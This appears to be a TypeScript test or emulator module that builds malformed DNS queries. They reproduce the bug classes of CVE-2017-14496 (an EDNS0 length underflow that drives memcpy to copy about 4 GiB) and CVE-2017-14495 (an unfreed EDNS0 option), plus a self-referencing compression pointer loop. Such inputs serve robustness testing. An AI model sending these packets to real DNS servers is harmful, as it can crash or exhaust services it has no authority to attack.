import type { Random } from '../../emulator/base/index.js';
import { concat, DnsType, encodeHeader, encodeName, encodeOpt, u16 } from '../codecs/dns.js';

const RECURSION_DESIRED = 0x0100;
const CLASS_IN = 1;
const POINTER = 0xc000;
const QUESTION_AT = 12;

const question = (name: Uint8Array, type: number): Uint8Array => concat(name, u16(type), u16(CLASS_IN));
const header = (random: Random, additional: number): Uint8Array => encodeHeader(random.next() & 0xffff, RECURSION_DESIRED, [1, 0, 0, additional]);

/** An EDNS0 option (RFC 6891 section 6.1.2): code, length, data; `declared` may lie. */
const option = (code: number, data: Uint8Array, declared = data.length): Uint8Array => concat(u16(code), u16(declared), data);

/**
 * CVE-2017-14496's class: the OPT record says it is shorter than the options in it, so that what is left of the record after an
 * option is a negative number, which memcpy takes for a size of almost 4 GiB.
 */
export function ednsUnderflow(random: Random): Uint8Array {
  const options = option(10, new Uint8Array(8));
  return concat(header(random, 1), question(encodeName('www.example.com'), DnsType.A), encodeOpt(1232, options, 2));
}

/** A name that is a compression pointer to itself (RFC 9267 section 2): whoever follows it follows it for ever. */
export function pointerLoop(random: Random): Uint8Array {
  return concat(header(random, 0), question(u16(POINTER | QUESTION_AT), DnsType.A));
}

/** CVE-2017-14495's class: a well-formed query whose EDNS0 option is kept and never freed. */
export function ednsLeak(random: Random): Uint8Array {
  const data = new Uint8Array(512);
  random.fill(data);
  return concat(header(random, 1), question(encodeName('www.example.com'), DnsType.A), encodeOpt(1232, option(65001, data)));
}
